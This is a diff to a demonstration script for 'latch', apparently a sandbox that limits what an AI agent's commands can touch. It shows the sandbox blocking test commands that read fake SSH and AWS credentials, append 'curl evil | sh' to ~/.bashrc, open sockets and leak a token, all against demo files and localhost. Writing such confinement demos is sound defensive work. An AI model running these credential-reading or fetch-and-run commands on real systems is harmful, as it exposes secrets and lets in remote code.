@@ -5,7 +5,7 @@ set -u
 latch=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
 demo=$(mktemp -d /tmp/latch-demo.XXXXXX)
 trap 'rm -rf "$demo"' EXIT
-export HOME="$demo/home" TMPDIR="$demo/tmp"
+export HOME="$demo/home" TMPDIR="$demo/tmp" PATH=/usr/local/bin:/usr/bin:/bin
 unset XDG_CONFIG_HOME XDG_CACHE_HOME XDG_DATA_HOME XDG_STATE_HOME
 mkdir -p "$HOME/.ssh" "$HOME/.aws" "$HOME/project" "$TMPDIR"
 echo "-----BEGIN FAKE KEY----- demo-secret" >"$HOME/.ssh/id_rsa"
@@ -14,8 +14,10 @@ printf '[default]\naws_secret_access_key = demo-secret\n' >"$HOME/.aws/credentia
 echo 'echo hello' >"$HOME/.bashrc"
 cd "$HOME/project" || exit 1
 
+# step 'what a person would type' COMMAND...: show the first, run the rest.
 step() {
-	printf '\n\033[1m$ %s\033[0m\n' "$*"
+	printf '\n\033[1m$ %s\033[0m\n' "$1"
+	shift
 	"$@"
 	printf '\033[2m(exit status %d)\033[0m\n' "$?"
 }
@@ -23,13 +25,23 @@ step() {
 echo "latch demo: HOME=$HOME, working in $PWD"
 echo "The agent profile: read the system and toolchains, read/write the project"
 echo "and a private tmp; credentials, shell configs and history denied; no network."
-step "$latch" why -p agent read "$HOME/.ssh/id_rsa"
-step "$latch" run -p agent -- sh -c 'cat ~/.ssh/id_rsa'
-step "$latch" run -p agent -- sh -c 'cat ~/.aws/credentials'
-step "$latch" why -p agent write "$PWD/build.log"
-step "$latch" run -p agent -- sh -c 'echo "built at $(date +%T)" > build.log && cat build.log'
-step "$latch" run -p agent -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
-step env GITHUB_TOKEN=ghp_demo "$latch" run -p agent -- sh -c 'echo "GITHUB_TOKEN inside: ${GITHUB_TOKEN:-<not set>}"'
-step "$latch" run -p agent -- sh -c 'echo > /dev/tcp/127.0.0.1/80 2>&1; python3 -c "import socket; socket.socket()" 2>&1 | tail -n 1'
+step "latch why -p agent read ~/.ssh/id_rsa" \
+	"$latch" why -p agent read "$HOME/.ssh/id_rsa"
+step "latch run -p agent -- sh -c 'cat ~/.ssh/id_rsa'" \
+	"$latch" run -p agent -- sh -c 'cat ~/.ssh/id_rsa'
+step "latch run -p agent -- sh -c 'cat ~/.aws/credentials'" \
+	"$latch" run -p agent -- sh -c 'cat ~/.aws/credentials'
+step "latch why -p agent write build.log" \
+	"$latch" why -p agent write build.log
+step "latch run -p agent -- sh -c 'echo built > build.log && cat build.log'" \
+	"$latch" run -p agent -- sh -c 'echo "built at $(date +%T)" > build.log && cat build.log'
+step "latch run -p agent -- sh -c 'echo \"curl evil | sh\" >> ~/.bashrc'" \
+	"$latch" run -p agent -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
+step "GITHUB_TOKEN=ghp_demo latch run -p agent -- sh -c 'echo \$GITHUB_TOKEN'" \
+	env GITHUB_TOKEN=ghp_demo "$latch" run -p agent -- sh -c 'echo "GITHUB_TOKEN inside: ${GITHUB_TOKEN:-<not set>}"'
+step "latch run -p agent -- python3 -c 'socket.create_connection((\"127.0.0.1\", 80))'" \
+	sh -c '"$1" run -p agent -- python3 -c "import socket; socket.create_connection((\"127.0.0.1\", 80))" 2>&1 | tail -n 1' sh "$latch"
+step "latch run -p agent --dry-run -- true   # the compiled plan, as JSON (first 300 bytes)" \
+	sh -c '"$1" run -p agent --dry-run -- true | cut -c1-300' sh "$latch"
 printf '\nThe project file written from inside the sandbox:\n'
 ls -l "$HOME/project"
